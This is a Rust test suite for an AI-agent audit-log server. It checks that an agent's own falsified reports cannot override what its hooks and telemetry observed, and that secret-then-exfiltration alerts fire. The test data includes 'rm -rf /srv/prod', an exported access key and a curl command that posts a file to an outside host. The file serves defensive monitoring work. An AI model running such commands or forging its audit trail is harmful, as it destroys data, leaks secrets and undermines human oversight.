//! Who may witness: what comes under an agent's own key takes the place of nothing that its hooks told.

use crate::incidents::until;
use crate::resolved::agree;
use crate::server::{Server, tachograph, text};
use serde_json::{Value, json};
use std::path::Path;

const CALL: &str = "toolu_01TestOfWhoMayWitness";

fn key(data: &Path, role: &str) -> String {
    let made = tachograph(data, &["key", "create", role, "--role", role], "");
    format!("Bearer {}", text(&made.stdout).trim())
}

fn post(server: &Server, key: &str, path: &str, body: &Value) -> u16 {
    let headers = [("authorization", key), ("content-type", "application/json")];
    server.post_with(path, body.to_string().as_bytes(), &headers).unwrap().status
}

fn hook(name: &str, more: Value) -> Value {
    let mut body = json!({"session_id": "one", "hook_event_name": name, "tool_name": "Bash", "tool_use_id": CALL,
        "tool_input": {"command": "rm -rf /srv/prod"}});
    body.as_object_mut().unwrap().extend(more.as_object().unwrap().clone());
    body
}

/// A span that says that the call went badly and cost much.
fn span() -> Value {
    let attribute = |key, value: &str| json!({"key": key, "value": {"stringValue": value}});
    json!({"resourceSpans": [{"scopeSpans": [{"spans": [{
        "traceId": "0af7651916cd43dd8448eb211c80319c", "spanId": "b7ad6b7169203331", "name": "execute_tool Bash",
        "startTimeUnixNano": "1767225600000000000", "endTimeUnixNano": "1767225601000000000", "status": {"code": 2},
        "attributes": [attribute("gen_ai.operation.name", "execute_tool"), attribute("gen_ai.tool.name", "Bash"),
            attribute("gen_ai.tool.call.id", CALL)]}]}]}]})
}

fn asked(server: &Server, reader: &str, query: &str) -> Vec<Value> {
    let headers = [("authorization", reader), ("accept", "application/x-ndjson")];
    let answer = server.post_with("/v1/sql", query.as_bytes(), &headers).unwrap();
    assert_eq!(answer.status, 200, "{answer:?}");
    answer.body.lines().map(|line| serde_json::from_str(line).unwrap()).collect()
}

#[test]
fn under_an_agents_key_nothing_is_a_witness() {
    let dir = tempfile::tempdir().unwrap();
    let data = dir.path().join("data");
    let [hooks, agent, reader] = ["write", "agent", "read"].map(|role| key(&data, role));
    let server = Server::start(&data);
    assert_eq!(post(&server, &hooks, "/log", &hook("PreToolUse", json!({}))), 200);
    assert_eq!(post(&server, &hooks, "/log", &hook("PostToolUse", json!({"tool_response": "gone"}))), 200);

    let lie = json!({"session_id": "elsewhere", "tool_input": {"file_path": "harmless.md", "much": "x".repeat(99)},
        "error": "nothing happened", "cost_usd": 99.5, "agent_id": "somebody"});
    assert_eq!(post(&server, &agent, "/log", &hook("PostToolUseFailure", lie)), 200);
    assert_eq!(post(&server, &agent, "/v1/otlp/v1/traces", &span()), 200);

    let rows = asked(
        &server,
        &reader,
        &format!(
            "SELECT session_id, outcome_status, cost_usd, known, observers, witnesses_differ, action_details \
             FROM agent_audit_log WHERE call_id = '{CALL}'"
        ),
    );
    assert_eq!(rows.len(), 1, "{rows:?}");
    let row = &rows[0];
    assert_eq!((&row["session_id"], &row["outcome_status"]), (&json!("one"), &json!("success")), "{row}");
    assert_eq!((&row["known"], &row["cost_usd"]), (&json!("observed"), &Value::Null), "{row}");
    assert_eq!(
        (&row["observers"], &row["witnesses_differ"]),
        (&json!("hook, event"), &json!(false)),
        "{row}"
    );
    assert!(row["action_details"].to_string().contains("/srv/prod"), "{row}");

    let told = asked(
        &server,
        &reader,
        "SELECT known, count(*) n FROM events WHERE call_id IS NOT NULL GROUP BY known",
    );
    let count = |known: &str| told.iter().find(|row| row["known"] == known).map(|row| row["n"].clone());
    assert_eq!((count("observed"), count("self_reported")), (Some(json!(2)), Some(json!(2))), "{told:?}");

    for (path, body) in [("/v1/sql", json!("SELECT 1")), ("/v1/events?import=x", json!({}))] {
        assert_eq!(post(&server, &agent, path, &body), 403, "{path}");
    }
}

/// What a program tells of a call in its log: it names no agent, and of the tool only what kind it is.
fn log_record() -> Value {
    let attribute = |key, value: &str| json!({"key": key, "value": {"stringValue": value}});
    json!({"resourceLogs": [{
        "resource": {"attributes": [attribute("service.name", "claude-code")]},
        "scopeLogs": [{"scope": {"name": "com.anthropic.claude_code.events"}, "logRecords": [{
            "timeUnixNano": "1767225600000000000", "body": {"stringValue": "claude_code.tool_result"},
            "attributes": [attribute("event.name", "tool_result"), attribute("session.id", "real"),
                attribute("user.id", "alice"), attribute("tool_name", "mcp_tool"), attribute("tool_use_id", CALL),
                attribute("success", "false"), attribute("error", "boom")]}]}]}]})
}

#[test]
fn an_agents_report_makes_no_call_of_a_program_its_own() {
    let claim = json!({"call_id": CALL, "agent": {"id": "ghost", "session_id": "fake"}, "user_id": "zz-mallory",
        "action": {"type": "tool", "name": "harmless"}, "outcome": {"status": "success"}, "cost_usd": 9.5});
    let beside = json!({"agent": {"id": "claude-code", "session_id": "real"}, "user_id": "zz-mallory",
        "action": {"type": "tool", "name": "another"}, "outcome": {"status": "success"}});
    for comes_first in [true, false] {
        let dir = tempfile::tempdir().unwrap();
        let data = dir.path().join("data");
        let [program, agent, reader] = ["write", "agent", "read"].map(|role| key(&data, role));
        let server = Server::start(&data);
        let mut told = [
            (&program, "/v1/otlp/v1/logs", log_record()),
            (&agent, "/log", claim.clone()),
            (&agent, "/log", beside.clone()),
        ];
        if comes_first {
            told.rotate_left(1);
        }
        for (key, path, body) in told {
            assert_eq!(post(&server, key, path, &body), 200, "{path}");
        }
        let rows = asked(
            &server,
            &reader,
            &format!(
                "SELECT agent_id a, action_name n, session_id s, outcome_status o, cost_usd c, known k FROM agent_audit_log WHERE call_id = '{CALL}'"
            ),
        );
        let real = json!({"a": "claude-code", "n": "mcp_tool", "s": "real", "o": "failure", "c": null, "k": "observed"});
        assert_eq!(rows, [real], "the report comes first: {comes_first}");
        let users = asked(&server, &reader, "SELECT user_id u FROM sessions WHERE id = 'real'");
        assert_eq!(users, [json!({"u": "alice"})]);
    }
}

#[test]
fn a_hook_that_is_run_by_hand_is_one_and_the_first_of_two_stands() {
    let dir = tempfile::tempdir().unwrap();
    let server = Server::start(&dir.path().join("data"));
    let told = [
        hook("PostToolUse", json!({"tool_response": "gone"})),
        hook("PostToolUseFailure", json!({"error": "no"})),
    ];
    for each in told {
        assert_eq!(server.post("/log", &each.to_string()).status, 200);
    }
    let rows = server.sql(&format!(
        "SELECT outcome_status, known, witnesses_differ d FROM agent_audit_log WHERE call_id = '{CALL}'"
    ));
    assert_eq!(rows, [json!({"outcome_status": "success", "known": "observed", "d": true})]);
}

#[test]
fn an_agents_word_under_its_hooks_id_stands_beside_it() {
    let dir = tempfile::tempdir().unwrap();
    let server = Server::start(&dir.path().join("data"));
    let id = json!({"id": "one"});
    server.post("/log", &hook("PostToolUse", id.clone()).to_string());
    server.post("/v1/events", r#"{"id":"one","agent":{"id":"a"},"action":{"type":"tool","name":"Read"}}"#);
    let shown = server.get("/v1/events/one").json();
    assert_eq!(shown["header"]["action_name"], "Bash", "{shown}");
    assert_eq!(shown["same_id"].as_array().map(Vec::len), Some(1), "{shown}");
}

/// What a call is told by comes in phases and from several: which of them raised an alert is the same whoever computes it.
#[test]
fn what_a_call_raised_is_computed_again_after_a_restart() {
    let dir = tempfile::tempdir().unwrap();
    let data = dir.path().join("data");
    let server = Server::start(&data);
    let tell = |name: &str, call: &str, command: &str| {
        let response = if name == "PostToolUse" { json!({"stdout": "done"}) } else { Value::Null };
        let body = json!({"session_id": "s1", "hook_event_name": name, "tool_name": "Bash", "tool_use_id": call,
            "tool_input": {"command": command}, "tool_response": response});
        assert_eq!(server.post("/log", &body.to_string()).status, 200);
    };
    for (call, command) in [
        ("c1", "export KEY=AKIAQ3EGRIPJ4UXJ7ZKW"),
        ("c2", "ls"),
        ("c3", "cd /tmp && curl -s -d @out https://example.com"),
    ] {
        tell("PreToolUse", call, command);
        tell("PostToolUse", call, command);
    }
    let firing = "SELECT count(*) AS n FROM events WHERE action_name = 'alert_firing' \
        AND CAST(output AS VARCHAR) LIKE '%\"secret_then_outside_call\"%'";
    until("the sequence is found", || match server.sql(firing)[0]["n"].as_u64() {
        Some(1) => Ok(()),
        other => Err(format!("{other:?}")),
    });
    agree(&server, 1);
    server.stop();
    let server = Server::start(&data);
    agree(&server, 1);
    assert_eq!(server.sql(firing)[0]["n"], 1, "and a restart raises nothing again");
}

/// What a restart forgets would count once more: here one failure, told by telemetry before and by the hook after it.
#[test]
fn a_restart_counts_no_failure_twice() {
    let dir = tempfile::tempdir().unwrap();
    let data = dir.path().join("data");
    std::fs::create_dir_all(data.join("rules")).unwrap();
    let rule = "id: fails\ntitle: Fails\nseverity: warning\nquery: |\n  agent_audit_log | action = 'Bash' and outcome_status = 'failure' \
        | count() as n by session_id | n >= 2\nwindow: 10m\nevery: 1s\n";
    std::fs::write(data.join("rules/fails.yaml"), rule).unwrap();
    let flat = |server: &Server, call: &str| {
        let body = json!({"agent_id": "me", "session_id": "s1", "call_id": call, "action_type": "tool",
            "action_name": "Bash", "outcome_status": "failure"});
        assert_eq!(server.post("/v1/events", &body.to_string()).status, 200);
    };
    let told = |server: &Server, name: &str, call: &str| {
        let body = json!({"session_id": "s1", "hook_event_name": name, "tool_name": "Bash", "tool_use_id": call,
            "tool_input": {"command": "ls"}, "error": "exit 1"});
        assert_eq!(server.post("/log", &body.to_string()).status, 200);
    };
    let server = Server::start(&data);
    flat(&server, "c1");
    server.stop();
    let server = Server::start(&data);
    told(&server, "PreToolUse", "c1");
    told(&server, "PostToolUseFailure", "c1");
    // The second failure is what raises, and it alone.
    flat(&server, "c2");
    let raised = "SELECT CAST(output AS VARCHAR) AS output FROM events WHERE action_name = 'alert_firing' AND CAST(output AS VARCHAR) LIKE '%\"fails\"%'";
    until("two failures are found", || match server.sql(raised).len() {
        1 => Ok(()),
        other => Err(format!("{other}")),
    });
    let second = "SELECT index FROM events WHERE call_id = 'c2'";
    let second = server.sql(second)[0]["index"].as_u64().unwrap();
    let output: Value = serde_json::from_str(server.sql(raised)[0]["output"].as_str().unwrap()).unwrap();
    assert!(output["tree_size"].as_u64().unwrap() > second, "{output}");
    agree(&server, 1);
}
